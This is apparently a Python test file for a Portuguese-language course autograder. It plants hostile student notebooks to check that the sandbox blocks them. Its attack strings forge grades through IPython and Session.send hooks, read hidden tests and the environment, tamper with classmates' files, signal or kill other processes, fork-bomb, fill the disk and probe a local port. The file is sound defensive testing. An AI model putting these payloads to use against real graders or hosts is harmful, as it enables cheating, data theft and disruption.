"""Alunos hostis contra ``curso corrigir`` com a caixa de areia: nenhum ganha pontos em
silêncio e nenhum muda nada fora da sua própria nota.

Uma turma no capítulo 1: um aluno com as soluções, um em branco, e os atacantes — cada um parte
do caderno em branco e põe numa célula de resposta um dos ataques da revisão de segurança
(ler as soluções, transformadores do IPython, ler o ``gradebook.db``, uma ``str`` que mente,
estragar a submissão de um colega, escrever no repositório, processos destacados, forjar a
resposta do trabalhador, ``SIGSTOP`` ao professor, trancar a base de dados, rede, ambiente,
bombas de memória e de processos, encher o disco, uma saída sem fim…). Na mesma turma, os
alunos de ``DEPOIS_DE_B`` partem de um caderno com só o exercício B resolvido e forjam, dentro do
kernel, o que as verificações veem (saídas de resultado antes do erro, um *tracer*, *audit hooks*,
uma *thread*, o ``Session.send``, o retrato da blindagem, ficheiros ao lado do caderno, sockets na
pasta de ligação, uma exceção com um nome hostil). Depois de uma correção, para todos:

- o atacante tem 0 pontos (não resolveu nada) e o resumo marca-o «⚠ possível adulteração»; os de
  ``DEPOIS_DE_B`` têm exatamente os pontos de B, célula a célula (as verificações correm no
  trabalhador e só veem o que as funções do aluno devolvem pela fronteira);
- os colegas têm a nota de sempre;
- a árvore do curso, fora das saídas da correção, fica igual byte a byte (e o pacote ``curso``);
- não fica nenhum processo, nem pastas temporárias;
- nenhum retorno mostra código dos testes escondidos, nem uma variável secreta do professor;
- o CSV, a base de dados e a tabela impressa dizem o mesmo.
"""

from __future__ import annotations

import base64
import codecs
import csv
import hashlib
import html
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from ._turma import RAIZ, celula, copiar_curso, corrigir, exercicios, ler, maximo, notas_so, resolvido, submeter

pytestmark = pytest.mark.lento

CAP = "cap01"
# está na linha de comando de cada processo que um ataque arranca; única por corrida, para não
# se confundir com os de outra corrida destes testes na mesma máquina
MARCA = f"ataque-i13-marca-{uuid.uuid4().hex[:12]}"
SEGREDO = "segredo-do-professor-5521"
(SOL_A, VER_A, _), (SOL_B, VER_B, PTS_B), (SOL_C, VER_C, _) = exercicios(CAP)[:3]
SAIDAS = ("autograded", "feedback", "gradebook.db", "notas.csv", "resultados")

# Um processo destacado que sobrevive ao kernel (se nada o matar), com a MARCA no argv.
DESTACADO = """
import subprocess, sys
codigo = {codigo!r}
subprocess.Popen([sys.executable, "-c", codigo, "{marca}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""

# código banal: o limite chega (memória, saída guardada), não há o que assinalar
SO_LIMITES = {"bomba_de_memoria", "saida_sem_fim"}
FIM_DA_INUNDACAO = "a-inundacao-chegou-ao-fim"
ENCHEU = "a-ligacao-encheu"
ATAQUES = {
    # ler as soluções do curso e correr as células de solução
    "solucoes_pela_raiz": """
import json, os
for caminho in (os.environ.get("CURSO_RAIZ", ".") + "/solutions/cap01/cap01.ipynb",
                os.path.join(*[".."] * 3, "solutions/cap01/cap01.ipynb"), os.path.join(*[".."] * 4, "solutions/cap01/cap01.ipynb")):
    try:
        nb = json.load(open(caminho))
    except OSError as erro:
        print("não consegui:", erro)
        continue
    for c in nb["cells"]:
        if c["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(c["source"]), globals())
""",
    # cada instrução das verificações embrulhada num try/except
    "transformador_ast": """
import ast
class Engolir(ast.NodeTransformer):
    def visit_Module(self, no):
        corpo = [ast.Try(body=[s], handlers=[ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])], orelse=[], finalbody=[]) for s in no.body]
        return ast.fix_missing_locations(ast.Module(body=corpo, type_ignores=[]))
get_ipython().ast_transformers.append(Engolir())
""",
    "transformador_de_entrada": """
def trocar(linhas):
    return ["pass\\n"] if any("verificar" in l for l in linhas) else linhas
get_ipython().input_transformers_post.append(trocar)
""",
    # o código dos testes escondidos: da base de dados, de um evento, do histórico
    "ler_gradebook": """
import os, sqlite3
for caminho in (os.environ.get("CURSO_RAIZ", ".") + "/gradebook.db", os.path.join(*[".."] * 3, "gradebook.db"),
                os.path.join(*[".."] * 4, "gradebook.db")):
    try:
        print([l for (l,) in sqlite3.connect(caminho).execute("select source from source_cell")])
    except Exception as erro:
        print("não consegui:", erro)
""",
    "evento_pre_run_cell": """
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
""",
    "historico_de_celulas": """
def espiar():
    print(In, _ih)
get_ipython().events.register("post_run_cell", lambda r: espiar())
""",
    # uma resposta que diz que é igual a tudo
    "str_mentirosa": """
class Letra(str):
    def __eq__(self, outra):
        return True
    __hash__ = str.__hash__
    def strip(self):
        return self
    def lower(self):
        return self
resposta_1_2 = Letra("x")
""",
    # mexer no que não é seu
    "estragar_colega": """
import os, shutil
raiz = os.environ.get("CURSO_RAIZ", ".")
for destino in (raiz + "/submitted/solucao/cap01/cap01.ipynb", os.path.join(*[".."] * 2, "solucao/cap01/cap01.ipynb"),
                os.path.join(*[".."] * 3, "submitted/solucao/cap01/cap01.ipynb")):
    try:
        shutil.copy(raiz + "/exercises/cap01/cap01.ipynb", destino)
    except OSError as erro:
        print("não consegui:", erro)
""",
    "escrever_no_curso": """
import os, glob, curso
raiz = os.environ.get("CURSO_RAIZ", ".")
alvos = [raiz + "/nbgrader_config.py", raiz + "/solutions/cap01/cap01.ipynb",
         os.path.join(os.path.dirname(curso.__file__), "__init__.py"),
         os.path.join(*[".."] * 3, "nbgrader_config.py"), "/tmp/../" + raiz + "/tests/exercicios/test_cap01.py"]
for alvo in alvos:
    try:
        with open(alvo, "a") as f:
            f.write("\\nprint('adulterado')\\n")
    except OSError as erro:
        print("não consegui:", erro)
""",
    "reescrever_notas_depois": DESTACADO.format(marca=MARCA, codigo="""
import os, time
time.sleep(3)
raiz = os.environ.get("CURSO_RAIZ", ".")
for alvo in (raiz + "/gradebook.db", raiz + "/notas.csv"):
    try:
        open(alvo, "w").write("estragado")
    except OSError:
        pass
"""),
    # o trabalhador e o professor
    "forjar_resposta": """
import json, os, signal
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    for fd in os.listdir(f"/proc/{pid}/fd") if os.access(f"/proc/{pid}/fd", os.R_OK) else []:
        try:
            with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                f.write(json.dumps({"id": 0, "aluno": "forjar_resposta", "capitulo": "cap01", "ok": True, "notas": {"pontos": 99}}) + "\\n")
        except OSError:
            pass
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as erro:
        print("não consegui:", erro)
""",
    "sigstop_ao_professor": DESTACADO.format(marca=MARCA, codigo="""
import os, signal, time
for _ in range(60):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGSTOP)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGSTOP)
    except OSError:
        pass
    time.sleep(0.5)
"""),
    "trancar_gradebook": DESTACADO.format(marca=MARCA, codigo="""
import os, sqlite3, time
for caminho in (os.environ.get("CURSO_RAIZ", ".") + "/gradebook.db", os.path.join(*[".."] * 3, "gradebook.db")):
    try:
        ligacao = sqlite3.connect(caminho, timeout=0)
        ligacao.execute("BEGIN EXCLUSIVE")
    except Exception:
        pass
time.sleep(120)
"""),
    "duplo_fork": f"""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["/bin/sleep", "300", "{MARCA}"])
    os._exit(0)
time.sleep(0.5)
""",
    # rede e ambiente
    "rede": """
import os, socket
for familia, tipo in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM)):
    try:
        s = socket.socket(familia, tipo)
        s.settimeout(2)
        s.connect(("127.0.0.1", int(os.environ.get("PORTA_ESPIA", PORTA))))
        s.send(b"fuga")
    except OSError as erro:
        print("não consegui:", erro)
""",
    "ler_ambiente": """
import os
print(dict(os.environ))
print(open("/proc/1/environ", "rb").read())
""",
    # limites
    "bomba_de_memoria": """
pedacos = []
try:
    while True:
        pedacos.append(bytearray(2**28))
except MemoryError:
    pedacos.clear()
    print("sem memória")
""",
    "bomba_de_processos": f"""
import os, time
filhos = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            os.execv("/bin/sleep", ["/bin/sleep", "300", "{MARCA}"])
        filhos += 1
    except OSError:
        break
print("filhos:", filhos)
""",
    # o disco do professor: a pasta de trabalho (tem tamanho fixo) e a de ligação (só sockets)
    "encher_o_disco": f"""
import os, sys
bloco = b"0" * 2**24
for i in range(64):  # a pasta de trabalho: 1 GiB, se a deixassem
    try:
        with open(f"enche-{{i}}", "wb") as f:
            f.write(bloco)
    except OSError as erro:
        print("a pasta de trabalho encheu:", erro, flush=True)
        break
ligacao = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
for i in range(256):  # a pasta de ligação: 4 GiB, se a vigia deixasse
    with open(os.path.join(ligacao, f"enche-{{i}}"), "wb") as f:
        f.write(bloco)
print("{ENCHEU}")
""",
    # uma saída sem fim: 200 MiB de texto para a memória do trabalhador e para o caderno corrigido
    "saida_sem_fim": f"""
for _ in range(200):
    print("x" * 2**20)
print("{FIM_DA_INUNDACAO}")
""",
    # o interpretador
    "trocar_verificar": """
import sys
sys.modules["curso.verificacao"].verificar = lambda *a, **k: print("Tudo certo")
sys.modules["curso.verificacao"].so_dados = lambda valor, *a, **k: "c"
import builtins
builtins.isinstance = lambda *a: True
builtins.AssertionError = type("Nada", (Exception,), {})
""",
    "excecoes_silenciosas": """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
type(ip).run_cell = lambda self, *a, **k: None
""",
}


# --------------------------------------------------------------------------- forjas depois de B
# Estes alunos partem de um caderno com só o exercício B (1.2) resolvido; o ataque vem depois,
# nas células de resposta de A (antes de todas as verificações) ou de C. As verificações correm
# no trabalhador e chegam às funções do aluno pela fronteira: o que o kernel forja (um tracer, um
# audit hook, uma thread, o Session.send, o retrato da blindagem…) só muda o que as funções do
# aluno devolvem. A nota tem de ser exatamente a de B, célula a célula.

# a resposta que as forjas dão a cada chamada de uma função do aluno: o ciclo do 1.1 «concluído»
FORJAR = """
def _forjar(pedido):
    return {"ok": True, "depois": pedido.get("raizes", []),
            "valor": {"concluido": True, "resposta": "Olá!", "historico": []}}
"""
# no envio das mensagens do kernel: cada resposta da fronteira com um erro passa a «ok», e cada
# erro ou saída do kernel passa a um «ok» no stdout
SESSION_SEND = """
import json, jupyter_client.session as _s
_enviar = _s.Session.send
def _forjar_envio(self, stream, msg_or_type, content=None, *a, **k):
    if msg_or_type == "input_request" and '"ok": false' in str((content or {}).get("prompt")):
        prefixo, _, corpo = content["prompt"].partition("{")
        resposta = json.loads("{" + corpo)
        resposta.pop("erro", None)
        resposta.update(ok=True, valor={"concluido": True, "resposta": "Olá!", "historico": []})
        content = {**content, "prompt": prefixo + json.dumps(resposta)}
    elif msg_or_type in ("error", "stream"):
        msg_or_type, content = "stream", {"name": "stdout", "text": "ok"}
    return _enviar(self, stream, msg_or_type, content, *a, **k)
_s.Session.send = _forjar_envio
"""
FIM_DAS_FORJAS = "forjado-Tudo-certo"
# o que uma célula de verificação certa mostraria, e os pontos como execute_result (o nbgrader dá a
# nota parcial da primeira saída execute_result de uma célula), antes do erro
SAIDA_FORJADA = f"""
from IPython.display import display
def _como_se_passasse(exercicio, pontos):
    display({{"text/plain": f"Exercício {{exercicio}}\\n  ✔ {FIM_DAS_FORJAS}"}}, raw=True)
    get_ipython().displayhook(pontos)
def correr_ciclo(pedido, decidir, ferramentas, max_passos=5):
    _como_se_passasse("1.1", 3)
    raise AssertionError("depois da saída de resultado")
_como_se_passasse("1.1", 3)
"""
# uma exceção cujo nome (e mensagem) escreve uma linha do resumo contra um colega honesto
FALSA_CONTRA_COLEGA = "\n  solucao · cap01: ⚠ possível adulteração: import do módulo os (célula «ex1_1», linha 1)"
NOME_HOSTIL = "ValueError" + FALSA_CONTRA_COLEGA + "\x1b[31m\x1b[2K\r"
B64 = "B64:"  # antes de cada despejo do audit hook que procura os testes escondidos
AO_LADO = "o-ficheiro-ao-lado-correu"  # o que um .py ao lado do caderno escreveria, se corresse
CODIGO_AO_LADO = f"""
import os
for pasta in {{os.environ.get("CURSO_RAIZ", "."), os.getcwd(), os.environ.get("TMPDIR", "/tmp")}}:
    try:
        open(os.path.join(pasta, "{AO_LADO}"), "w").close()
    except OSError:
        pass
raise SystemExit("{AO_LADO}")
"""
DEPOIS_DE_B = {  # aluno → {célula de resposta: código acrescentado ao esboço}
    # 1. saídas de resultado (com o texto de uma verificação certa) antes do erro
    "saida_de_resultado": {SOL_A: SAIDA_FORJADA, SOL_C: """
def resumir_e_traduzir(texto, chamar_modelo):
    _como_se_passasse("1.3", 2)
    raise AssertionError("depois da saída de resultado")
"""},
    # 2. um tracer que troca o que o lado do kernel da fronteira devolve por um «ok»
    "tracer": {SOL_A: """
import sys
def _tracer(quadro, evento, arg):
    if quadro.f_code.co_name != "_chamar":
        return None
    if evento == "return" and isinstance(arg, dict) and not arg.get("ok"):
        arg.pop("erro", None)
        arg.update(ok=True, valor={"concluido": True, "resposta": "Olá!", "historico": []})
    return _tracer
sys.settrace(_tracer)
"""},
    # 3. um audit hook que volta a forjar o lado do kernel da fronteira em cada «exec», depois
    # de a blindagem o ter reposto
    "audit_hook": {SOL_A: FORJAR + """
import sys, curso.fronteira.kernel as _k
def _ouvir(evento, args):
    if evento == "exec":
        _k._chamar = _forjar
sys.addaudithook(_ouvir)
"""},
    # 4. uma thread que, sem parar, volta a pôr a forja por cima do que a blindagem repôs
    "thread": {SOL_A: FORJAR + """
import threading, time, curso.fronteira.kernel as _k
def _sempre():
    while True:
        _k._chamar = _forjar
        time.sleep(0.0005)
threading.Thread(target=_sempre, daemon=True).start()
"""},
    # 5. o Session.send da classe trocado (e o mesmo em rot13, corrido por um pseudónimo de exec)
    "session_send": {SOL_A: SESSION_SEND},
    "session_send_rot13": {SOL_A: f"""
import builtins, codecs
_x = getattr(builtins, "ex" + "ec")
_x(codecs.decode({codecs.encode(SESSION_SEND, "rot13")!r}, "rot13"), globals())
"""},
    # 6. com gc, a cópia que a blindagem guarda para repor o IPython recebe um transformador de
    # AST que troca cada pedido da fronteira por uma forja
    "retrato_da_blindagem": {SOL_A: FORJAR + """
import ast, gc, curso.fronteira.kernel as _k
def _servir_forjado(novo=True, sessao=""):
    if novo:
        _k.reiniciar()
    _k._sessao[0] = sessao
    mensagem = _k._enviar({"tipo": "pronto"})
    while mensagem.get("tipo") == "operar":
        pedido = mensagem.get("pedido") or {}
        resposta = _forjar(pedido) if pedido.get("op") == "chamar" else _k._atender_um(pedido)
        mensagem = _k._responder(resposta, mensagem.get("n"))
class _Trocar(ast.NodeTransformer):
    def visit_Attribute(self, no):
        if no.attr == "servir":
            return ast.copy_location(ast.Name("_servir_forjado", ast.Load()), no)
        return self.generic_visit(no)
_retrato = next(o for o in gc.get_objects() if type(o).__name__ == "Retrato")
_retrato.ast.append(_Trocar())
"""},
    # 7. um ipykernel_launcher.py, um json.py e um curso.py ao lado do caderno (que está intacto)
    "ficheiros_ao_lado": {},
    # 8. um audit hook que guarda tudo o que o kernel compila ou executa (à procura dos testes
    # escondidos); a última célula do aluno despeja-o em base64 na sua saída, que vai para o retorno
    "audit_escondidos": {SOL_A: """
import sys
_ouvido = []
def _escutar(evento, args):
    if evento in ("compile", "exec") and args:
        fonte = args[0]
        _ouvido.append(fonte.decode(errors="replace") if isinstance(fonte, bytes) else
                       fonte if isinstance(fonte, str) else repr(getattr(fonte, "co_consts", "")))
sys.addaudithook(_escutar)
""", SOL_C: f"""
import base64
print("{B64}" + base64.b64encode("\\n".join(_ouvido).encode()).decode())
"""},
    # 9. (depois da verificação de B) uma thread que enche a pasta de ligação de sockets k-N,
    # nomes que a vigia deixa passar
    "sockets_na_ligacao": {SOL_C: """
import os, socket, sys, threading
def _inundar():
    pasta = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
    for n in range(10**5, 10**7):
        with socket.socket(socket.AF_UNIX) as s:
            try:
                s.bind(os.path.join(pasta, f"k-{n}"))
            except OSError:
                pass
threading.Thread(target=_inundar, daemon=True).start()
"""},
    # 10. as funções do aluno lançam, pela fronteira, uma exceção com um nome hostil
    "nome_hostil": {SOL_A: f"""
_Hostil = type({NOME_HOSTIL!r}, (Exception,), {{}})
def correr_ciclo(pedido, decidir, ferramentas, max_passos=5):
    raise _Hostil({FALSA_CONTRA_COLEGA!r})
""", SOL_C: """
def resumir_e_traduzir(texto, chamar_modelo):
    raise _Hostil("outra vez")
"""},
}
# 11. uma ligação simbólica em inbound/ para as soluções, pela troca do JupyterHub: já provada
# pelo caminho verdadeiro (nbgrader collect com a RecolhaSegura, e o aviso que o curso corrigir
# mostra) em test_caixa_hostil.py::test_nbgrader_collect_da_troca_nao_segue_ligacoes.
# A caixa termina o kernel (e sinaliza-o); nos outros, o sinal vem do ast (import, get_ipython…)
DETETADOS_PELA_CAIXA = {"sockets_na_ligacao": "pasta de ligação"}
# as forjas da resposta do 1.1 chegam ao corretor (uma verificação passa com ela), que decide
FORJAS_QUE_CHEGAM = {"tracer", "audit_hook", "thread", "session_send", "session_send_rot13",
                     "retrato_da_blindagem"}
SEM_SINAL = {"ficheiros_ao_lado", "nome_hostil"}  # o caderno não tem nada de suspeito


@pytest.fixture
def temporarias():
    """O TMPDIR da correção: curto (os sockets Unix das caixas têm um limite de comprimento), e
    tem de ficar vazio."""
    pasta = Path(tempfile.mkdtemp(prefix="adulteracao-", dir="/tmp"))
    yield pasta
    shutil.rmtree(pasta, ignore_errors=True)


def _arvore(pasta: Path, fora: tuple[str, ...] = ()) -> dict[str, str]:
    """O hash de cada ficheiro (e o alvo de cada ligação) debaixo de ``pasta``."""
    hashes = {}
    for caminho in sorted(pasta.rglob("*")):
        relativo = caminho.relative_to(pasta).as_posix()
        if relativo.split("/")[0] in fora or "__pycache__" in relativo:
            continue
        if caminho.is_symlink():
            hashes[relativo] = "-> " + os.readlink(caminho)
        elif caminho.is_file():
            hashes[relativo] = hashlib.sha256(caminho.read_bytes()).hexdigest()
    return hashes


def _processos_com(texto: str) -> list[str]:
    achados = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            linha = Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if texto in linha:
            achados.append(f"{pid}: {linha[:200]}")
    return achados


class Espia:
    """Um servidor TCP e UDP em 127.0.0.1: um kernel isolado não lhe pode chegar."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen()
        self.porta = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.porta))
        self.contactos: list[str] = []
        self.fios = [threading.Thread(target=self._tcp, daemon=True),
                     threading.Thread(target=self._udp, daemon=True)]
        for f in self.fios:
            f.start()

    def _tcp(self):
        try:
            while True:
                ligacao, _ = self.tcp.accept()
                self.contactos.append("tcp")
                ligacao.close()
        except OSError:
            return

    def _udp(self):
        try:
            while True:
                self.udp.recvfrom(100)
                self.contactos.append("udp")
        except OSError:
            return

    def fechar(self):
        self.tcp.close()
        self.udp.close()


def _tabela(saida: str) -> dict[tuple[str, str], str]:
    """A tabela impressa: (aluno, capítulo) -> «pontos/máximo»."""
    linhas = saida.splitlines()
    inicio = next(i for i, li in enumerate(linhas) if li.startswith("aluno "))
    caps = linhas[inicio].split()[1:-1]
    tabela = {}
    for linha in linhas[inicio + 2:]:
        if not linha.strip():
            break
        partes = linha.split()
        for cap, valor in zip(caps, partes[1:]):
            tabela[(partes[0], cap)] = valor
    return tabela


def _saidas(caderno: Path) -> str:
    """O texto de todas as saídas de um caderno corrigido (sem o código das células)."""
    partes = []
    for c in ler(caderno)["cells"]:
        for saida in c.get("outputs", []):
            texto = saida.get("text") or saida.get("evalue") or ""
            partes.append("".join(texto) if isinstance(texto, list) else texto)
    return "\n".join(partes)


def _notas_por_celula(curso: Path, alunos) -> dict[str, dict[str, float]]:
    """Os pontos de cada célula de verificação, por aluno, no gradebook.db do curso."""
    with Gradebook(f"sqlite:///{curso / 'gradebook.db'}") as gb:
        return {aluno: {g.name: g.score for g in gb.find_submission_notebook(CAP, CAP, aluno).grades}
                for aluno in alunos}


def _numero(texto: str) -> float:
    return float(texto.replace(",", "."))


@pytest.mark.timeout(900)
def test_alunos_hostis(tmp_path, temporarias):
    curso = tmp_path / "curso"
    curso.mkdir()
    copiar_curso(curso, [CAP])
    submeter(curso, "solucao", CAP, resolvido(CAP))
    submeter(curso, "branco", CAP, ler(curso / "exercises" / CAP / f"{CAP}.ipynb"))
    submeter(curso, "parcial", CAP, resolvido(CAP, so={SOL_B}))
    espia = Espia()
    for aluno, codigo in ATAQUES.items():
        nb = ler(curso / "exercises" / CAP / f"{CAP}.ipynb")
        codigo = codigo.replace("PORTA", str(espia.porta))
        if aluno == "str_mentirosa":
            celula(nb, "ex1_2")["source"] = codigo
        else:  # o ataque ao nível do módulo, depois do esboço por resolver
            c = celula(nb, SOL_A)
            c["source"] = "".join(c["source"]) + "\n\n" + codigo.strip() + "\n"
        submeter(curso, aluno, CAP, nb)
    for aluno, ataques in DEPOIS_DE_B.items():
        nb = resolvido(CAP, so={SOL_B})
        for gid, codigo in ataques.items():
            c = celula(nb, gid)
            c["source"] = "".join(c["source"]) + "\n\n" + codigo.strip() + "\n"
        submeter(curso, aluno, CAP, nb)
    for nome in ("ipykernel_launcher.py", "json.py", "curso.py"):
        (curso / "submitted" / "ficheiros_ao_lado" / CAP / nome).write_text(CODIGO_AO_LADO)
    antes = _arvore(curso, SAIDAS)
    pacote = _arvore(RAIZ / "src" / "curso")

    try:
        r = corrigir(curso, "--timeout", "20", "--csv", "notas.csv",
                     env={"TMPDIR": str(temporarias), "CURSO_SEGREDO_DO_TESTE": SEGREDO})
    finally:
        espia.fechar()
    saida = r.stdout
    (tmp_path / "saida.txt").write_text(saida + r.stderr, encoding="utf-8")
    assert r.returncode == 0, saida + r.stderr

    # ninguém ficou: nem processos dos ataques, nem kernels, nem pastas temporárias
    assert _processos_com(MARCA) == []
    assert _processos_com(str(temporarias)) == []
    assert list(temporarias.iterdir()) == []  # com as caixas dos kernels (o TMPDIR é curto)
    assert espia.contactos == [], "um kernel chegou à rede do professor"
    # o curso e o pacote ficaram como estavam
    assert _arvore(curso, SAIDAS) == antes
    assert _arvore(RAIZ / "src" / "curso") == pacote

    with Gradebook(f"sqlite:///{curso / 'gradebook.db'}") as gb:
        notas = {s.student_id: s.score for s in gb.assignment_submissions(CAP)}
    assert notas["solucao"] == maximo(CAP)
    assert notas["branco"] == 0
    assert notas["parcial"] == PTS_B
    problemas = saida.split("Problemas")[1]
    for aluno in ATAQUES:
        assert notas[aluno] == 0, (aluno, notas[aluno], saida)
        linhas = [li for li in problemas.splitlines() if f" {aluno} · {CAP}:" in li]
        if aluno in SO_LIMITES:  # sem nada de suspeito no código: basta não ganhar nada
            continue
        assert any("⚠ possível adulteração" in li and "linha" in li for li in linhas), (aluno, linhas)
    # quem forjou dentro do kernel tem os pontos de B, célula a célula: nem um a mais
    por_celula = _notas_por_celula(curso, DEPOIS_DE_B)
    for aluno in DEPOIS_DE_B:
        assert por_celula[aluno] == notas_so(CAP, VER_B), (aluno, por_celula[aluno], saida)
        assert notas[aluno] == PTS_B, (aluno, notas[aluno])
        linhas = [li for li in problemas.splitlines() if f" {aluno} · {CAP}:" in li]
        if aluno in DETETADOS_PELA_CAIXA:
            assert any("⚠ possível adulteração" in li and DETETADOS_PELA_CAIXA[aluno] in li
                       and "terminado" in li for li in linhas), (aluno, linhas)
        elif aluno not in SEM_SINAL:
            assert any("⚠ possível adulteração" in li and "linha" in li for li in linhas), (aluno, linhas)
    for aluno in FORJAS_QUE_CHEGAM:  # a forja correu mesmo; o 1.1 vale 0 na mesma
        vistas = ler(curso / "resultados" / aluno / f"{CAP}.json")["cadernos"][CAP]
        estados = [v["estado"] for v in vistas["exercicios"]["1.1"]["verificacoes"]]
        assert "passou" in estados and "falhou" in estados, (aluno, estados)
    # o nome hostil não escreve linhas no resumo: o colega honesto não tem problemas
    assert "\x1b" not in saida + r.stderr
    assert not [li for li in problemas.splitlines() if li.startswith("  solucao")], problemas

    # o CSV, a base de dados e a tabela impressa dizem o mesmo
    with open(curso / "notas.csv", encoding="utf-8") as f:
        csv_notas = {li["student_id"]: float(li["score"]) for li in csv.DictReader(f)}
    tabela = _tabela(saida)
    assert csv_notas == notas
    for aluno, pontos in notas.items():
        assert _numero(tabela[(aluno, CAP)].split("/")[0]) == pontos, aluno

    # os retornos: nem testes escondidos nem segredos do professor
    escondidas = set()
    for c in ler(curso / "solutions" / CAP / f"{CAP}.ipynb")["cells"]:
        fonte = "".join(c["source"])
        if "BEGIN HIDDEN TESTS" in fonte:
            bloco = fonte.split("BEGIN HIDDEN TESTS")[1].split("END HIDDEN TESTS")[0]
            escondidas |= {li.strip() for li in bloco.splitlines()[1:-1] if len(li.strip()) >= 8}
    assert escondidas
    retornos = list((curso / "feedback").rglob("*.html"))
    assert len(retornos) == len(ATAQUES) + len(DEPOIS_DE_B) + 3
    for caminho in retornos:
        texto = html.unescape(re.sub(r"<[^>]+>", "", caminho.read_text(encoding="utf-8")))
        for linha in escondidas:
            assert linha not in texto, (caminho, linha)
        assert SEGREDO not in texto, caminho
    for caminho in (curso / "autograded").rglob("*.ipynb"):
        assert SEGREDO not in caminho.read_text(encoding="utf-8"), caminho

    # as saídas das células de verificação são do corretor: nem o execute_result nem o texto
    # forjados lá chegam (nas células do aluno, sim: a forja correu)
    forjado = ler(curso / "autograded" / "saida_de_resultado" / CAP / f"{CAP}.ipynb")
    for c in forjado["cells"]:
        saidas = c.get("outputs", [])
        gid = c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in (VER_A, VER_C):
            assert saidas and saidas[0]["output_type"] == "error", (gid, saidas)
        if gid in (VER_A, VER_B, VER_C):
            assert FIM_DAS_FORJAS not in json.dumps(saidas, ensure_ascii=False), (gid, saidas)
            assert all(s["output_type"] != "execute_result" for s in saidas), (gid, saidas)
    assert FIM_DAS_FORJAS in json.dumps(celula(forjado, SOL_A)["outputs"], ensure_ascii=False)
    # o audit hook despejou o que o kernel compilou (também os pedidos da fronteira), e nenhuma
    # linha dos testes escondidos lá está
    despejado = ler(curso / "autograded" / "audit_escondidos" / CAP / f"{CAP}.ipynb")
    blocos = re.findall(re.escape(B64) + r"([A-Za-z0-9+/=]+)", json.dumps(despejado))
    retorno = (curso / "feedback" / "audit_escondidos" / CAP / f"{CAP}.html").read_text(encoding="utf-8")
    blocos += re.findall(re.escape(B64) + r"([A-Za-z0-9+/=]+)", retorno)
    ouvido = "\n".join(base64.b64decode(b).decode(errors="replace") for b in blocos)
    assert "servir(" in ouvido, ouvido[:2000]
    for linha in escondidas:
        assert linha not in ouvido, linha
    # nenhum dos ficheiros ao lado do caderno correu, nem na caixa (o kernel não arrancaria e B
    # valeria 0) nem fora dela (deixaria a marca numa pasta do professor); nem ficam nas pastas
    # corrigidas, onde um kernel aberto pelo professor os importaria
    assert not [p for p in curso.rglob(AO_LADO)], "um ficheiro ao lado do caderno correu"
    for pasta in ("autograded", "feedback"):
        assert not list((curso / pasta / "ficheiros_ao_lado").rglob("*.py")), pasta
    assert "código Python ao lado do caderno" in problemas, problemas

    # o disco e a memória do professor: a pasta de trabalho encheu no seu limite, a vigia
    # terminou o kernel que escrevia na pasta de ligação, e a saída guardada tem teto
    saidas = _saidas(curso / "autograded" / "encher_o_disco" / CAP / f"{CAP}.ipynb")
    assert "a pasta de trabalho encheu:" in saidas and "No space left on device" in saidas
    assert ENCHEU not in saidas
    assert any("encher_o_disco" in li and "pasta de ligação" in li and "terminado" in li
               for li in problemas.splitlines()), problemas
    # (uma mensagem de saída acima do teto do socket nem é lida: o zmq corta a ligação, a célula
    # fica por acabar e o resto do caderno corre num kernel novo)
    inundado = curso / "autograded" / "saida_sem_fim" / CAP / f"{CAP}.ipynb"
    assert inundado.stat().st_size < 3 * 2**20, inundado.stat().st_size
    assert any(nota in _saidas(inundado) for nota in ("foi cortado pela correção", "não terminou em"))
    assert FIM_DA_INUNDACAO not in _saidas(inundado)


@pytest.mark.timeout(600)
@pytest.mark.usefixtures("caixa_de_areia")  # sem --sem-isolamento: sem caixa, o corrigir recusaria
def test_interrompida_nao_deixa_nada(tmp_path, temporarias):
    """Um SIGTERM a meio da correção: sai, e não ficam kernels nem cópias das soluções."""
    curso = tmp_path / "curso"
    curso.mkdir()
    copiar_curso(curso, [CAP])
    for i in range(4):
        submeter(curso, f"aluno{i}", CAP, resolvido(CAP))
    base = {k: v for k, v in os.environ.items() if k not in ("VIRTUAL_ENV", "CURSO_RAIZ")}
    base.update(PATH="/usr/bin:/bin", TMPDIR=str(temporarias))
    proc = subprocess.Popen([sys.executable, "-m", "curso", "corrigir", "--timeout", "20"],
                            cwd=curso, env=base, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    linhas = []
    for linha in proc.stdout:  # espera até a correção das soluções já ter kernels a correr
        linhas.append(linha)
        if "importa o curso" in linha:
            break
    proc.send_signal(signal.SIGTERM)
    saida, erros = proc.communicate(timeout=120)
    assert proc.returncode == 130, "".join(linhas) + saida + erros
    assert "interrompida" in erros
    assert list(temporarias.iterdir()) == []
    assert _processos_com(str(temporarias)) == []
    assert _processos_com(str(curso)) == []
